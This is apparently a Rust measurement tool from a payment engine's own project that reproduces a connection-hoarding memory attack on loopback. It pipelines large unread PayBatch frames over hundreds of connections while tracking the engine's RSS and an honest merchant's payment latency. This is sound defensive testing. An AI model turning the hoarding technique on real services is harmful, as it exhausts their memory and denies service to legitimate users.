//! `kessai-hoard`: the memory attack of issue #19 (case 2) against a
//! running engine, to measure what it costs.
//!
//! A merchant key opens `--connections` connections, spread over
//! `--sources` loopback source addresses (127.0.0.2 upward), and each
//! pipelines `--frames` PayBatch frames of `--batch` one-yen payments and
//! never reads a reply. Meanwhile a second merchant pays one yen every
//! 100 ms and the engine's RSS is sampled (`--engine-pid`, Linux /proc).
//! After `--hold-s` the attack closes its connections and RSS is sampled
//! again. The engine must allow the connections from one address
//! (`max_connections_per_peer`, `max_connections_per_principal`).
//!
//!   kessai-hoard --addr 127.0.0.1:7878 --operator-key data/operator.key \
//!       --engine-pid $(pgrep -f 'kessai serve') --connections 300 --sources 5

use clap::Parser;
use kessai::auth::Key;
use kessai::client::Client;
use kessai::protocol::{
    AuthHello, AuthProof, PayBatchRequest, PayRequest, Request, Response, Role,
};
use std::net::{Ipv4Addr, SocketAddr};
use std::path::PathBuf;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

#[derive(Parser)]
#[command(about = "Hoarding connections against a running engine: what its memory does")]
struct Args {
    #[arg(long, default_value = "127.0.0.1:7878")]
    addr: SocketAddr,
    /// An operator's key file (registers the two merchants and the cards).
    #[arg(long)]
    operator_key: PathBuf,
    /// The engine's process id, to sample its RSS.
    #[arg(long)]
    engine_pid: Option<u32>,
    #[arg(long, default_value_t = 300)]
    connections: usize,
    /// Loopback source addresses the connections come from.
    #[arg(long, default_value_t = 5, value_parser = clap::value_parser!(u8).range(1..=250))]
    sources: u8,
    /// PayBatch frames each connection sends.
    #[arg(long, default_value_t = 8)]
    frames: u64,
    /// Payments in each frame.
    #[arg(long, default_value_t = 2048)]
    batch: u64,
    /// The first of the three principal ids it registers, and its store.
    #[arg(long, default_value_t = 900_000)]
    first_id: u32,
    /// Seconds the connections are held before they close.
    #[arg(long, default_value_t = 20)]
    hold_s: u64,
}

fn fail(message: impl std::fmt::Display) -> ! {
    eprintln!("kessai-hoard: {message}");
    std::process::exit(1);
}

fn rss_mib(pid: Option<u32>) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{}/status", pid?)).ok()?;
    let kib: u64 = status
        .lines()
        .find_map(|line| line.strip_prefix("VmRSS:"))?
        .trim()
        .trim_end_matches("kB")
        .trim()
        .parse()
        .ok()?;
    Some(kib >> 10)
}

fn frame(correlation_id: u64, request: &Request) -> Vec<u8> {
    let mut out = Vec::new();
    request
        .encode(&mut out, correlation_id, 1 << 24)
        .unwrap_or_else(|e| fail(format!("encode: {e:?}")));
    out
}

/// Reads one whole frame's response.
async fn next(stream: &mut tokio::net::TcpStream, buffer: &mut Vec<u8>) -> Response {
    let mut chunk = [0u8; 4096];
    loop {
        if let Ok(Some((frame, used))) = kessai::protocol::frame::parse(buffer, 1 << 24) {
            let response = Response::decode(frame.kind, frame.body)
                .unwrap_or_else(|e| fail(format!("decode: {e:?}")));
            buffer.drain(..used);
            return response;
        }
        let read = stream.read(&mut chunk).await.unwrap_or(0);
        if read == 0 {
            fail("the engine closed a connection during its handshake");
        }
        buffer.extend_from_slice(&chunk[..read]);
    }
}

/// A connection from `source`, authenticated as `key`.
async fn connect_from(source: Ipv4Addr, addr: SocketAddr, key: &Key) -> tokio::net::TcpStream {
    let socket = tokio::net::TcpSocket::new_v4().unwrap_or_else(|e| fail(e));
    socket
        .bind(SocketAddr::from((source, 0)))
        .unwrap_or_else(|e| fail(format!("bind {source}: {e}")));
    let mut stream = socket
        .connect(addr)
        .await
        .unwrap_or_else(|e| fail(format!("connect: {e}")));
    let mut buffer = Vec::new();
    let client_nonce = [3u8; 32];
    let hello = Request::AuthHello(AuthHello {
        principal: key.principal,
        client_nonce,
    });
    let _ = stream.write_all(&frame(1, &hello)).await;
    let Response::Challenge(challenge) = next(&mut stream, &mut buffer).await else {
        fail("no challenge");
    };
    let proof = key.proof(&client_nonce, &challenge.server_nonce);
    let _ = stream
        .write_all(&frame(2, &Request::AuthProof(AuthProof { proof })))
        .await;
    match next(&mut stream, &mut buffer).await {
        Response::Welcome(_) => stream,
        other => fail(format!("refused: {other:?}")),
    }
}

#[tokio::main]
async fn main() {
    let args = Args::parse();
    let (attacker, honest, pins) = register(&args).await;

    let before = rss_mib(args.engine_pid);
    println!("engine RSS before: {before:?} MiB");
    let holders = hoard(&args, &attacker, &pins).await;
    println!("{} connections opened, writing", args.connections);

    let meanwhile = pay_meanwhile(&args, &honest, &pins, before.unwrap_or(0)).await;
    for holder in &holders {
        holder.abort();
    }
    for holder in holders {
        let _ = holder.await;
    }
    tokio::time::sleep(Duration::from_secs(5)).await;
    let after = rss_mib(args.engine_pid);
    let Meanwhile {
        peak,
        approved,
        other,
        slowest,
    } = meanwhile;
    println!("engine RSS: before {before:?} MiB, peak {peak} MiB, 5 s after close {after:?} MiB");
    println!(
        "honest merchant: {approved} approved, {other} not (error, decline or 10 s timeout), slowest {} ms",
        slowest.as_millis()
    );
}

/// Registers a store HQ, the attacking merchant and the honest one, and
/// cards for them; returns the two merchants' keys and the cards' PINs.
async fn register(args: &Args) -> (Key, Key, Vec<String>) {
    let operator_key = Key::read(&args.operator_key).unwrap_or_else(|e| fail(e));
    let operator = Client::connect_as(args.addr, &operator_key)
        .await
        .unwrap_or_else(|e| fail(format!("connect as the operator: {e}")));
    // Fixed, unlikely ids, so it needs no listing (which engines before
    // #19 answer in another shape).
    let (next_id, store) = (args.first_id, args.first_id);
    let (hq, attacker, honest) = (
        Key::generate(next_id),
        Key::generate(next_id + 1),
        Key::generate(next_id + 2),
    );
    for (key, role, stores) in [
        (&hq, Role::StoreHq, vec![store]),
        (&attacker, Role::Merchant, vec![]),
        (&honest, Role::Merchant, vec![]),
    ] {
        operator
            .principal_add(key, role, &stores)
            .await
            .unwrap_or_else(|e| fail(format!("add principal: {e}")));
    }
    // Cards with room for every payment the attack sends.
    let issued = operator
        .issue(1000, 1_000_000)
        .await
        .unwrap_or_else(|e| fail(format!("issue: {e}")));
    let hq_client = Client::connect_as(args.addr, &hq)
        .await
        .unwrap_or_else(|e| fail(format!("connect as the HQ: {e}")));
    hq_client
        .activate(store, 0, &issued.pins)
        .await
        .unwrap_or_else(|e| fail(format!("activate: {e}")));
    (attacker, honest, issued.pins)
}

/// The attack: opens the connections as `attacker` and has each write its
/// frames from a task of its own, never reading a reply; returns the
/// tasks, which hold the connections open until aborted.
async fn hoard(args: &Args, attacker: &Key, pins: &[String]) -> Vec<tokio::task::JoinHandle<()>> {
    let mut holders = Vec::with_capacity(args.connections);
    for connection in 0..args.connections {
        let source = Ipv4Addr::new(127, 0, 0, 2 + (connection % args.sources as usize) as u8);
        let mut stream = connect_from(source, args.addr, attacker).await;
        let bytes = hoard_frames(args, connection, pins);
        // Written from a task of its own: the engine stops reading when
        // the budgets are spent, and this write then waits for good.
        holders.push(tokio::spawn(async move {
            let _ = stream.write_all(&bytes).await;
            std::future::pending::<()>().await;
        }));
    }
    holders
}

/// The PayBatch frames `connection` of the attack sends, one after the
/// other, with request ids unique across connections.
fn hoard_frames(args: &Args, connection: usize, pins: &[String]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for n in 0..args.frames {
        let payments = (0..args.batch)
            .map(|i| {
                let request_id = ((connection as u64 * args.frames + n) << 16) | i;
                PayRequest {
                    request_id,
                    amount_minor: 1,
                    pins: vec![pins[request_id as usize % pins.len()].clone()],
                }
            })
            .collect();
        bytes.extend(frame(
            3 + n,
            &Request::PayBatch(PayBatchRequest { payments }),
        ));
    }
    bytes
}

/// What the honest merchant saw while the attack held its connections,
/// and the engine's peak RSS meanwhile.
struct Meanwhile {
    peak: u64,
    approved: u64,
    other: u64,
    slowest: Duration,
}

/// The honest merchant pays one yen every 100 ms for --hold-s while the
/// engine's RSS is sampled; `peak` starts at the RSS before the attack.
async fn pay_meanwhile(args: &Args, honest: &Key, pins: &[String], peak: u64) -> Meanwhile {
    let honest = Client::connect_as(args.addr, honest)
        .await
        .unwrap_or_else(|e| fail(format!("connect as the honest merchant: {e}")));
    let (mut peak, mut approved, mut other, mut slowest) = (peak, 0, 0, Duration::ZERO);
    let started = Instant::now();
    let mut request_id = 0;
    while started.elapsed() < Duration::from_secs(args.hold_s) {
        request_id += 1;
        let sent = Instant::now();
        let card = &pins[request_id as usize % pins.len()];
        match tokio::time::timeout(
            Duration::from_secs(10),
            honest.pay(request_id, 1, std::slice::from_ref(card)),
        )
        .await
        {
            Ok(Ok(paid)) if paid.is_approved() => approved += 1,
            _ => other += 1,
        }
        slowest = slowest.max(sent.elapsed());
        peak = peak.max(rss_mib(args.engine_pid).unwrap_or(0));
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    Meanwhile {
        peak,
        approved,
        other,
        slowest,
    }
}
